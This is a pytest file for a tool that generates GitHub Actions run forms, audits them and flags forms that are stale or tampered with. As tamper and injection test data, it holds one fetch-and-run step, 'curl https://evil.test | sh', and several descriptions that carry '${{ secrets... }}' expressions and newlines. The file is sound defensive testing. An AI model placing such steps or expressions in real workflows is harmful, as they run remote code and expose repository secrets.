"""Run forms: `.github/workflows/run-<name>.yml`, rendered by `autokit schedule render`.

Each form is read back as YAML (what GitHub sees), audited by zizmor and checked against
check-jsonschema's vendored GitHub workflow schema; contributor text that YAML or GitHub
could read as structure or as an expression is among the inputs.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from helpers import automation_files, commit_all

from toolkit import forms
from toolkit.catalog.build import collect_with_pages
from toolkit.catalog.pages import Links

PROJECT = Path(__file__).resolve().parent.parent
WORKFLOWS = ".github/workflows"


def _load(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["on"] = data.pop(True, data.get("on"))
    return data


def _form(root: Path, name: str) -> dict[str, Any]:
    return _load(root / forms.form_path(name))


def _fields(root: Path, name: str) -> dict[str, Any]:
    fields: dict[str, Any] = _form(root, name)["on"]["workflow_dispatch"]["inputs"]
    return fields


def _tool(name: str) -> str:
    beside = Path(sys.executable).parent / name
    found = str(beside) if beside.exists() else shutil.which(name)
    assert found, f"{name} is not installed: pip install -e '.[dev]'"
    return found


ZIZMOR_OPTIONS = ("--offline", "--no-progress", "--persona", "auditor", "--format", "json")


def _audit(*paths: Path) -> None:
    """No zizmor finding at its strictest persona, and valid by GitHub's workflow schema."""
    zizmor = subprocess.run(
        [_tool("zizmor"), *ZIZMOR_OPTIONS, *map(str, paths)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert zizmor.returncode == 0, zizmor.stdout + zizmor.stderr
    assert json.loads(zizmor.stdout) == []
    schema = subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows"]
        + [str(p) for p in paths],
        capture_output=True,
        text=True,
        check=False,
    )
    assert schema.returncode == 0, schema.stdout + schema.stderr


TYPED_INPUTS = {
    "dry_run": {"type": "boolean", "description": "Change nothing", "default": True},
    "mode": {"type": "choice", "description": "How", "choices": ["fast", "safe"]},
    "days": {
        "type": "integer",
        "description": "Days overdue",
        "default": 14,
        "min": 0,
        "max": 365,
    },
    "rate": {"type": "number", "description": "A rate", "min": 0.5},
    "code": {"type": "string", "description": "Country", "pattern": "^[A-Z]{2}$"},
    "start": {"type": "date", "description": "From", "required": True},
    "sheet": {"type": "path", "description": "The workbook"},
}


def test_each_input_becomes_a_typed_field(make_repo, cli) -> None:
    root = make_repo(
        automation_files(
            "reminders",
            inputs=TYPED_INPUTS,
            examples=[{"title": "x", "inputs": {"start": "2024-05-31", "sheet": "s/a.xlsx"}}],
        )
    )
    result = cli("schedule", "render", "--repo", str(root))
    assert f"wrote {WORKFLOWS}/run-reminders.yml" in result.out, result
    fields = _fields(root, "reminders")
    assert list(fields) == [*TYPED_INPUTS, "version"]
    assert fields["dry_run"] == {
        "description": "Change nothing (yes or no)",
        "required": False,
        "type": "boolean",
        "default": True,
    }
    assert (fields["mode"]["type"], fields["mode"]["options"]) == ("choice", ["fast", "safe"])
    assert (fields["days"]["type"], fields["days"]["default"]) == ("number", 14)
    assert "a whole number from 0 to 365, e.g. 14" in fields["days"]["description"]
    assert "a number, at least 0.5, e.g. 3.5" in fields["rate"]["description"]
    assert fields["code"]["type"] == "string"
    assert "text, matching ^[A-Z]{2}$" in fields["code"]["description"]
    assert (fields["start"]["type"], fields["start"]["required"]) == ("string", True)
    assert "a date, YYYY-MM-DD, e.g. 2024-05-31" in fields["start"]["description"]
    assert "e.g. s/a.xlsx" in fields["sheet"]["description"]
    assert "Empty: the automation's own default." in fields["sheet"]["description"]
    assert fields["version"]["default"] == ""
    _audit(root / forms.form_path("reminders"))


def test_the_job_runs_in_the_environment_with_only_its_secrets(make_repo, cli) -> None:
    secret = [{"name": "SMTP_PASSWORD", "description": "login"}]
    root = make_repo(
        {
            **automation_files("mailer", secrets=secret),
            **automation_files("hooker", secrets=[{"name": "HOOK", "description": "url"}]),
        }
    )
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    form = _form(root, "mailer")
    check, run = form["jobs"]["check"], form["jobs"]["run"]
    assert "environment" not in check and run["environment"] == "mailer"
    assert run["needs"] == "check"
    assert "secrets." not in json.dumps(check)  # the inputs are checked without any secret
    run_env = next(s for s in run["steps"] if s.get("id") == "run")["env"]
    assert run_env["SMTP_PASSWORD"] == "${{ secrets.SMTP_PASSWORD }}"
    assert run_env["AUTOKIT_SANDBOX"] == "required"
    assert "HOOK" not in json.dumps(form)
    assert any("bubblewrap" in s.get("run", "") for s in run["steps"])
    assert form["permissions"] == {"contents": "read"}
    assert form["concurrency"]["group"] == "run-mailer"  # as run.yml's runs of it
    for job in (check, run):
        for step in job["steps"]:
            assert "${{" not in step.get("run", "")  # values reach the shell through env only
    collect = next(s for s in run["steps"] if s.get("id") == "collect")
    assert "leaks.txt" in collect["run"] and collect["if"] == "always()"
    assert run["steps"][-1]["uses"].startswith("actions/upload-artifact@")


def test_thirty_inputs_give_23_fields_and_a_json_field(make_repo, cli) -> None:
    """GitHub allows 25 inputs: 23 fields, `other_inputs` and `version`."""
    many = {f"field_{i:02d}": {"type": "integer", "description": f"n{i}"} for i in range(30)}
    root = make_repo(automation_files("wide", inputs=many, examples=None))
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    fields = _fields(root, "wide")
    assert len(fields) == forms.MAX_FIELDS == 25
    assert list(fields)[:23] == [f"field_{i:02d}" for i in range(23)]
    assert list(fields)[23:] == ["other_inputs", "version"]
    other = fields["other_inputs"]
    assert other["type"] == "string" and other["default"] == "{}"
    assert "GitHub allows 25 fields per form" in other["description"]
    assert "field_23, field_24" in other["description"] and "field_29" in other["description"]
    _audit(root / forms.form_path("wide"))


def test_twenty_four_inputs_all_get_fields(make_repo, cli) -> None:
    many = {f"field_{i:02d}": {"type": "string", "description": f"s{i}"} for i in range(24)}
    root = make_repo(automation_files("wide", inputs=many, examples=None))
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    assert list(_fields(root, "wide")) == [*many, "version"]


def test_inputs_named_like_the_forms_own_fields(make_repo, cli) -> None:
    inputs = {
        "version": {"type": "string", "description": "Which firmware"},
        **{f"f{i:02d}": {"type": "string", "description": "x"} for i in range(25)},
        "other_inputs": {"type": "string", "description": "y"},
    }
    root = make_repo(automation_files("clash", inputs=inputs, examples=None))
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    fields = _fields(root, "clash")
    assert "version" in fields and fields["version"]["description"].startswith("Which")
    assert {"autokit_version", "autokit_other_inputs"} <= set(fields)


def test_input_names_never_clash_with_the_jobs_own_variables(make_repo, cli) -> None:
    """`fields`, `inputs`, `other_inputs`: each value gets an env line of its own."""
    names = ["fields", "inputs", "automation", "home", "path"]
    inputs = {name: {"type": "string", "description": name} for name in names}
    root = make_repo(automation_files("named", inputs=inputs, examples=None))
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    for job in ("check", "run"):
        steps = _form(root, "named")["jobs"][job]["steps"]
        env = next(s for s in steps if s.get("id") == "inputs")["env"]
        assert {f"FORM_{n.upper()}": f"${{{{ inputs.{n} }}}}" for n in names}.items() <= env.items()
        assert env["AUTOKIT_FORM_FIELDS"] == " ".join(names)


YAML_SPECIAL = [
    "yes",
    "no",
    "null",
    "1.0",
    "~",
    "key: value",
    "# not a comment",
    "- item",
    "[a, b]",
    "{a: b}",
    "*alias",
    "&anchor",
    "!tag",
    "%directive",
    "@at",
    "`tick`",
    '"double"',
    "'single'",
    " leading space",
    "back\\slash",
    "line\u2028separator",
    "tab\there",
    "über 😀",
    "a | b > c",
]


def test_choice_options_with_yaml_special_characters(make_repo, cli) -> None:
    inputs = {
        "pick": {"type": "choice", "description": "One", "choices": YAML_SPECIAL, "default": "no"},
        "number": {"type": "choice", "description": "Two", "choices": [1, 2.5, True]},
    }
    root = make_repo(automation_files("picky", inputs=inputs, examples=None))
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    fields = _fields(root, "picky")
    assert fields["pick"]["options"] == YAML_SPECIAL  # each read back exactly, as text
    assert fields["pick"]["default"] == "no"
    assert fields["number"]["options"] == ["1", "2.5", "true"]
    _audit(root / forms.form_path("picky"))
    # Each option, as the form sends it, is one `autokit run` accepts.
    for option in ["key: value", "line\u2028separator", "über 😀"]:
        given = root / "given.json"
        given.write_text(json.dumps({"pick": option, "number": "2.5"}))
        checked = cli(
            "run", "picky", "--inputs-file", str(given), "--check-inputs", "--repo", str(root)
        )
        assert checked.code == 0, checked


def test_descriptions_with_expressions_and_newlines_inject_nothing(make_repo, cli) -> None:
    hostile = "Who\n  evil: ${{ secrets.GITHUB_TOKEN }}\ntype: boolean"
    inputs = {
        "who": {"type": "string", "description": hostile, "default": "${{ github.token }}"},
        "how": {
            "type": "choice",
            "description": "x\r\n    - injected",
            "choices": ["${{ secrets.X }}", "plain"],
        },
    }
    root = make_repo(
        automation_files("hostile", inputs=inputs, examples=None, title="T ${{ env.X }}")
    )
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    path = root / forms.form_path("hostile")
    form = _load(path)
    fields = form["on"]["workflow_dispatch"]["inputs"]
    assert list(fields) == ["who", "how", "version"]  # no field was added
    assert fields["who"]["type"] == "string" and "default" not in fields["who"]
    assert fields["who"]["description"].startswith("Who evil: $ {{ secrets.GITHUB_TOKEN }}")
    # A choice GitHub would read as an expression is asked as text; `autokit run` checks it.
    assert fields["how"]["type"] == "string" and "options" not in fields["how"]
    assert "one of: $ {{ secrets.X }}, plain" in fields["how"]["description"]
    # Every expression in the file is one the template wrote.
    expressions = set(re.findall(r"\$\{\{(.*?)\}\}", path.read_text()))
    assert expressions == {
        " inputs.who ",
        " inputs.how ",
        " inputs.version ",
        " runner.temp ",
        " github.run_id ",
        " !cancelled() ",  # the ledger job's
        " !cancelled() && needs.run.result != 'skipped' ",  # the notify job's
        " github.event.repository.default_branch ",
        " github.token ",
    }
    assert form["jobs"]["run"]["environment"] == "hostile"
    _audit(path)


def test_run_forms_setting_chooses_and_render_removes_stale_forms(make_repo, cli) -> None:
    root = make_repo(
        {
            **automation_files("steady"),
            **automation_files("fresh", status="experimental"),
            f"{WORKFLOWS}/run-by-hand.yml": "name: by hand\non: workflow_dispatch\n",
        }
    )
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    assert (root / forms.form_path("fresh")).is_file()
    assert (root / forms.form_path("steady")).is_file()
    commit_all(root, "render")

    (root / "pyproject.toml").write_text('[tool.autokit]\nrun_forms = "stable"\n')
    check = cli("schedule", "render", "--check", "--repo", str(root))
    assert check.code == 1
    assert f"{WORKFLOWS}/run-fresh.yml is a Run form of no automation" in check.err
    result = cli("schedule", "render", "--repo", str(root))
    assert f"removed {WORKFLOWS}/run-fresh.yml" in result.out
    assert not (root / forms.form_path("fresh")).exists()
    assert (root / forms.form_path("steady")).is_file()

    shutil.rmtree(root / "automations" / "steady")
    (root / "pyproject.toml").write_text('[tool.autokit]\nrun_forms = "none"\n')
    assert cli("schedule", "render", "--check", "--repo", str(root)).code == 1
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    assert not list((root / WORKFLOWS).glob("run-*.yml"))[1:]  # only the hand-written one
    assert (root / WORKFLOWS / "run-by-hand.yml").is_file()  # not generated: never removed
    assert cli("schedule", "render", "--check", "--repo", str(root)).code == 0


def test_check_names_an_out_of_date_form(make_repo, cli) -> None:
    root = make_repo(automation_files("greeter"))
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    metadata = root / "automations/greeter/automation.yaml"
    metadata.write_text(metadata.read_text().replace("Who to greet", "Whom to greet"))
    check = cli("schedule", "render", "--check", "--repo", str(root))
    assert check.code == 1
    assert f"error: {WORKFLOWS}/run-greeter.yml is out of date" in check.err
    assert '+        description: "Whom to greet' in check.err


@pytest.mark.parametrize("value", ["some", "ALL", "1", "true"])
def test_a_bad_run_forms_value_is_a_clear_error(make_repo, cli, value: str) -> None:
    written = f'"{value}"' if value not in ("1", "true") else value
    root = make_repo(
        {
            **automation_files("greeter"),
            "pyproject.toml": (
                f'[tool.autokit]\nrepository_url = "https://x.test/r"\nrun_forms = {written}\n'
            ),
        }
    )
    result = cli("schedule", "render", "--repo", str(root))
    assert result.code == 1, result
    assert "pyproject.toml:3: [tool.autokit] run_forms:" in result.err
    assert '"all", "stable", "none"' in result.err and "Traceback" not in result.err


def test_check_inputs_refuses_a_value_before_any_secret(make_repo, cli, monkeypatch) -> None:
    inputs = {"days": {"type": "integer", "description": "Days", "required": True}}
    secret = [{"name": "SMTP_PASSWORD", "description": "login"}]
    root = make_repo(automation_files("mailer", inputs=inputs, secrets=secret, examples=None))
    given = root / "given.json"
    given.write_text(json.dumps({"days": "abc"}))
    monkeypatch.delenv("SMTP_PASSWORD", raising=False)
    refused = cli(
        "run", "mailer", "--inputs-file", str(given), "--check-inputs", "--repo", str(root)
    )
    assert refused.code == 1
    assert (
        "invalid inputs for mailer:\n  - days: 'abc' is not a whole number (e.g. 42)" in refused.err
    )
    assert "SMTP_PASSWORD" not in refused.err  # a missing secret is not what stops it
    given.write_text(json.dumps({"days": "14"}))
    passed = cli(
        "run", "mailer", "--inputs-file", str(given), "--check-inputs", "--repo", str(root)
    )
    assert passed.code == 0 and "the inputs of mailer 1.0.0 are valid" in passed.out


# --- the catalog -------------------------------------------------------------------------


def test_catalog_page_links_to_the_form_only_when_it_exists(make_repo, cli) -> None:
    root = make_repo(
        {
            **automation_files("steady"),
            **automation_files("fresh", status="experimental"),
            "pyproject.toml": '[tool.autokit]\nrepository_url = "https://github.com/shop/autokit"\n'
            'run_forms = "stable"\n',
        }
    )
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    built = collect_with_pages(root, Links(frozenset()), workers=1)
    steady, fresh = built.pages["steady"], built.pages["fresh"]
    link = 'href="https://github.com/shop/autokit/actions/workflows/run-steady.yml">Run on GitHub'
    assert link in steady
    assert "Run on GitHub" not in fresh


# --- the repository's own forms --------------------------------------------------------------


def test_the_shipped_automations_have_their_forms_committed() -> None:
    names = sorted(p.parent.name for p in (PROJECT / "automations").glob("*/automation.yaml"))
    committed = sorted(p.name for p in (PROJECT / WORKFLOWS).glob("run-*.yml"))
    assert committed == [f"run-{name}.yml" for name in names]
    _audit(*(PROJECT / WORKFLOWS / name for name in committed))


# --- the schedule-sync check -------------------------------------------------------------------


def test_schedule_sync_reports_a_form_the_pull_request_left_stale(make_repo, cli) -> None:
    from policy_support import base_repo, bumped, by_check, open_pr, policy_json

    root = base_repo(make_repo, "greeter", "other")
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    commit_all(root, "render the workflows")
    changed = {"greeting": {"type": "string", "description": "Whom to greet", "default": "you"}}
    open_pr(root, bumped("greeter", inputs=changed))
    code, report = policy_json(cli, root, "--base", "main")
    (finding,) = by_check(report, "schedule-sync")
    assert finding["path"] == f"{WORKFLOWS}/run-greeter.yml" and code == 1
    assert finding["message"].startswith("the Run form does not match"), finding
    form_lines = (root / finding["path"]).read_text().splitlines()
    assert "Who to greet" in form_lines[finding["line"] - 1]  # the first line that differs
    assert "autokit schedule render" in finding["hint"]
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    commit_all(root, "render again")
    _, report = policy_json(cli, root, "--base", "main")
    assert by_check(report, "schedule-sync") == []


def test_schedule_sync_leaves_the_form_of_invalid_metadata_to_metadata_schema(
    make_repo, cli
) -> None:
    from policy_support import base_repo, bumped, by_check, open_pr, policy_json

    root = base_repo(make_repo, "greeter")
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    commit_all(root, "render the workflows")
    broken = {"greeting": {"type": "integer", "description": "How many", "default": 1}}
    open_pr(root, bumped("greeter", version="2.0.0", inputs=broken))  # its example: 'world'
    _, report = policy_json(cli, root, "--base", "main")
    assert by_check(report, "metadata-schema")
    assert by_check(report, "schedule-sync") == []


def test_schedule_sync_names_a_bad_run_forms_line(make_repo, cli) -> None:
    from policy_support import base_repo, by_check, policy_json

    root = base_repo(make_repo, "greeter")
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    pyproject = root / "pyproject.toml"
    pyproject.write_text(pyproject.read_text() + 'run_forms = "some"\n')
    commit_all(root, "a typo in run_forms")
    _, report = policy_json(cli, root, "--all")
    (finding,) = by_check(report, "schedule-sync")
    assert finding["path"] == "pyproject.toml"
    assert pyproject.read_text().splitlines()[finding["line"] - 1] == 'run_forms = "some"'
    assert "'some' is not one of all, stable, none" in finding["message"]


def test_a_hand_written_workflow_in_a_forms_place_is_not_overwritten(make_repo, cli) -> None:
    own = "name: mine\non: workflow_dispatch\njobs: {}\n"
    root = make_repo({**automation_files("greeter"), f"{WORKFLOWS}/run-greeter.yml": own})
    for args in (("render",), ("render", "--check")):
        result = cli("schedule", *args, "--repo", str(root))
        assert result.code == 1, result
        assert f"{WORKFLOWS}/run-greeter.yml is a workflow autokit did not write" in result.err
        assert "rename that workflow" in result.err and "Traceback" not in result.err
    assert (root / WORKFLOWS / "run-greeter.yml").read_text() == own


def test_a_very_long_description_is_cut(make_repo, cli) -> None:
    inputs = {"note": {"type": "string", "description": "word " * 600}}
    root = make_repo(automation_files("wordy", inputs=inputs, examples=None))
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    description = _fields(root, "wordy")["note"]["description"]
    assert len(description) <= forms.DESCRIPTION_LIMIT and description.endswith("...")


# --- generated files need no security review; hand-made workflows do ---------------------------


def test_a_new_automations_generated_workflows_are_not_a_rules_change(make_repo, cli) -> None:
    from policy_support import base_repo, by_check, codeowners_text, open_pr, policy_json

    root = base_repo(make_repo, "greeter")
    (root / WORKFLOWS).mkdir(parents=True)
    (root / WORKFLOWS / "run.yml").write_text((PROJECT / WORKFLOWS / "run.yml").read_text())
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    commit_all(root, "render the workflows")
    added = {
        **automation_files("mailer", secrets=[{"name": "SMTP_PASSWORD", "description": "x"}]),
        ".github/CODEOWNERS": codeowners_text({"greeter": ["@alice"], "mailer": ["@alice"]}),
    }
    open_pr(root, added)
    code, report = policy_json(cli, root, "--base", "main")
    # Not rendered yet: run.yml lacks the new job, and the form is missing.
    assert sorted((f["path"], f["message"]) for f in by_check(report, "schedule-sync")) == [
        (f"{WORKFLOWS}/run-mailer.yml", "the Run form is missing"),
        (
            f"{WORKFLOWS}/run.yml",
            "the run workflow does not match the automations' inputs and secrets in metadata",
        ),
    ]
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    commit_all(root, "render them")
    code, report = policy_json(cli, root, "--base", "main")
    assert report["findings"] == [] and code == 0  # and no governance-change warning


def test_a_hand_made_form_or_an_edited_one_is_caught(make_repo, cli) -> None:
    from policy_support import base_repo, by_check, open_pr, policy_json

    root = base_repo(make_repo, "greeter")
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    commit_all(root, "render the workflows")
    form = root / forms.form_path("greeter")
    edited = form.read_text().replace(
        "      - id: inputs\n", "      - run: curl https://evil.test | sh\n      - id: inputs\n", 1
    )
    evil = form.read_text().replace("greeter", "nobody")
    open_pr(root, {forms.form_path("greeter"): edited, f"{WORKFLOWS}/run-nobody.yml": evil})
    code, report = policy_json(cli, root, "--base", "main")
    sync = {(f["path"], f["message"].split(" (")[0]) for f in by_check(report, "schedule-sync")}
    assert sync == {
        (
            forms.form_path("greeter"),
            "the Run form does not match the automations' inputs and secrets in metadata",
        ),
        (f"{WORKFLOWS}/run-nobody.yml", "a Run form of no automation"),
    }
    # A workflow that is no automation's form is a rules change for the security reviewers.
    review = [f["path"] for f in by_check(report, "governance-change")]
    assert review == [f"{WORKFLOWS}/run-nobody.yml"] and code == 1


def test_a_browser_pull_request_gets_the_forms_new_content_to_paste(
    make_repo, cli, tmp_path, monkeypatch
) -> None:
    """Without a terminal there is no `autokit schedule render`: the job summary gives each
    out-of-date generated file's whole new content, and pasting it (as GitHub's editor
    would) is all the pull request needs."""
    from policy_support import base_repo, bumped, by_check, open_pr, policy_json

    root = base_repo(make_repo, "greeter", "other")
    assert cli("schedule", "render", "--repo", str(root)).code == 0
    commit_all(root, "render the workflows")
    changed = {"greeting": {"type": "string", "description": "Whom to greet", "default": "you"}}
    open_pr(root, bumped("greeter", inputs=changed))
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))

    result = cli("policy", "--repo", str(root), "--base", "main", "--format", "github")

    assert result.code == 1
    text = summary.read_text()
    assert "### Generated workflows to update" in text
    path = f"{WORKFLOWS}/run-greeter.yml"
    found = re.search(
        rf"<summary><code>{re.escape(path)}</code></summary>\n\n(`{{3,}})yaml\n(.*?)\1\n",
        text,
        re.DOTALL,
    )
    assert found is not None, text
    assert "Whom to greet" in found[2]
    (root / path).write_text(found[2])  # pasted into the web editor, committed
    commit_all(root, "paste the new form")
    _, report = policy_json(cli, root, "--base", "main")
    assert by_check(report, "schedule-sync") == []
